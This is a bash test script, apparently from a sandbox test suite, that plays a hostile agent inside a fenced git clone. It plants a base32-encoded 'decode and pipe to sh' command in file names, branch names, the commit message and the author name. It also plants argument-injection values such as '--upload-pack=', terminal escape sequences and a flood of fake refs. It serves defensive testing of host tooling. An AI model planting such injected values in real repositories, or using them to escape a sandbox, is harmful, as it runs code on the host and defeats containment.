#!/usr/bin/env bash
# attack 16 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
b=$(printf ">'%s/pwned-16-name'" "$H" | base32 -w 0) # base 32 has no slash, so it may stand in file and branch names
inj="echo\${IFS}$b|base32\${IFS}-d|sh"
echo x >attack-16.txt
for f in "\$($inj)" ";$inj;" "\`$inj\`" "|$inj" "'\$($inj)'" "\"\$($inj)\"" "--upload-pack=$inj" '-rf' '--output=attack-16-out' $'a\nb' $'a\tb\x1b]0;attack-16\x07' '%s%n' ' ' "attack-16-$(printf 'n%.0s' $(seq 200))"; do
  echo x >"./$f" 2>/dev/null
done
git add -A .
git -c user.name="\$($inj)" -c user.email=a@example.invalid -c commit.gpgSign=false commit -q --no-verify -m "\$($inj)
;$inj;
\`$inj\`"
cur=$(git symbolic-ref -q HEAD); sha=$(git rev-parse HEAD)
for r in "change/attack-16\$($inj)" "change/attack-16;$inj;" "change/attack-16\`$inj\`" "change/attack-16|$inj" "change/attack-16'\$($inj)'" "--upload-pack=$inj" "attack-16-$(printf 'r%.0s' $(seq 180))"; do
  git update-ref "refs/heads/$r" "$sha" 2>/dev/null
done
{ cat .git/packed-refs 2>/dev/null || echo '# pack-refs with: peeled fully-peeled sorted '; } >.git/attack-16-refs
i=0; while [ $i -lt 5000 ]; do printf '%s refs/heads/zz/attack-16-%05d\n' "$sha" $i; i=$((i+1)); done >>.git/attack-16-refs
grep -q sorted .git/attack-16-refs && sed -i 's/ sorted//' .git/attack-16-refs
mv .git/attack-16-refs .git/packed-refs
git symbolic-ref HEAD "refs/heads/change/attack-16\$($inj)" 2>/dev/null
: "$cur"
exit 0
